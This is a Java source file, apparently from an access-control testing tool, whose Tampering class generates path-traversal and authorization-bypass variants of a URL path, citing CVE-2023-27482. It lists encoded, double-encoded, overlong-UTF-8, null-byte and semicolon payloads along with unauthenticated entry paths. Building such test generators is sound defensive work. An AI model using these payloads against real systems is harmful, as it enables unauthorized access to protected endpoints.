package hakube.access;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

/**
 * Ways of writing a path so that a careless gate takes it for another one. First of all those of CVE-2023-27482: a way in that needs
 * no right, and up from there by dots that are encoded, doubly encoded, or torn apart by characters that parsers drop.
 */
final class Tampering {

    /** Begin of paths that somebody without rights may call. */
    private static final List<String> WAYS_IN =
            List.of("/app/x", "/supervisor/ping", "/core/api/x", "/addons/self/info", "/ingress/token/x");

    private static final List<String> UPS = List.of(
            "..",
            "%2e%2e",
            ".%2e",
            ".%252e",
            "%252e%252e",
            "%25252e%25252e",
            "%%32%65%%32%65",
            ".%09.",
            "%2e%0a%2e",
            ".%0d%0a.",
            "..%00",
            "..%20",
            "..;",
            "..;x=y",
            "%2e%2e;",
            "..%3b",
            "%c0%ae%c0%ae",
            "%25c0%25ae%25c0%25ae",
            "%e0%80%ae%e0%80%ae",
            "%uff0e%uff0e",
            "%ef%bc%8e%ef%bc%8e");

    private static final List<String> SLASHES = List.of(
            "/",
            "%2f",
            "%252f",
            "%25252f",
            "\\",
            "%5c",
            "%255c",
            "//",
            "/./",
            "/%2e/",
            "%c0%af",
            "%ef%bc%8f",
            "/;/",
            "/;x=y/");

    private static final List<String> TAILS = List.of(
            "/",
            "//",
            "/.",
            "/./",
            "/%2e",
            ";",
            ";/info",
            ";x=/info",
            ";.js",
            "%3b/info",
            "%3binfo",
            "%00",
            "%00/info",
            "%0a",
            "%0a/info",
            "%20",
            "%09",
            "/info",
            "/%69nfo",
            "//info",
            "/../info",
            "/%2e%2e/info",
            "/x/..",
            "?/info",
            "?x=/info",
            "#/info",
            "%23/info",
            "%3f/info",
            "%3f.js",
            ".js",
            "/x.js",
            "/icon",
            "/..;/info",
            "%c0%80",
            "%2finfo",
            "%252finfo",
            "%5cinfo");

    private static final List<String> HEADS = List.of(
            "/",
            "//",
            "/.",
            "/./",
            "/;",
            "/;x",
            "/%2e",
            "/%252e",
            "/%2f",
            "http://x",
            "http://x/",
            "//x",
            "/v2",
            "/v2/..",
            "/V2",
            "/info;",
            "/app",
            "/app/..;",
            "/core/api",
            "/core/api/..",
            "/ingress/token",
            "/supervisor/ping;",
            "/discovery/",
            "/discovery/..",
            "/services/;",
            "/addons/self");

    private static final Pattern LETTER = Pattern.compile("[a-z]");

    private Tampering() {}

    /** Every way to write that path, but not the path itself. */
    static List<String> of(String path) {
        Set<String> all = new LinkedHashSet<>();
        WAYS_IN.forEach(way -> UPS.forEach(up -> {
            String climbed = way
                    + ("/" + up).repeat((int) way.chars().filter(c -> c == '/').count());
            all.add(climbed + path + (way.startsWith("/app") ? ".js" : ""));
        }));
        SLASHES.forEach(slash -> all.addAll(withSlash(path, slash)));
        TAILS.forEach(tail -> all.add(path + tail));
        HEADS.forEach(head -> all.add(head + path));
        all.addAll(withLetters(path));
        all.remove(path);
        return List.copyOf(all);
    }

    /** Each slash but the first one, and all of them. */
    private static List<String> withSlash(String path, String slash) {
        List<String> all = new ArrayList<>();
        for (int at = path.indexOf('/', 1); at > 0; at = path.indexOf('/', at + 1)) {
            all.add(path.substring(0, at) + slash + path.substring(at + 1));
        }
        all.add("/" + path.substring(1).replace("/", slash));
        return all;
    }

    private static List<String> withLetters(String path) {
        int last = path.lastIndexOf('/') + 1;
        String name = path.substring(last);
        String once = escaped(name, "%");
        return List.of(
                path.substring(0, last) + once,
                path.substring(0, last) + escaped(name, "%25"),
                path.substring(0, last) + escaped(name, "%2525"),
                "/" + escaped(path.substring(1), "%"),
                path.substring(0, last) + name.toUpperCase(Locale.ROOT),
                LETTER.matcher(path).replaceFirst(found -> escaped(found.group(), "%")),
                LETTER.matcher(name).replaceFirst("$0;").transform(torn -> path.substring(0, last) + torn));
    }

    private static String escaped(String text, String percent) {
        return text.chars()
                .mapToObj(c -> c == '/' ? "/" : percent + Integer.toHexString(c))
                .collect(Collectors.joining());
    }
}
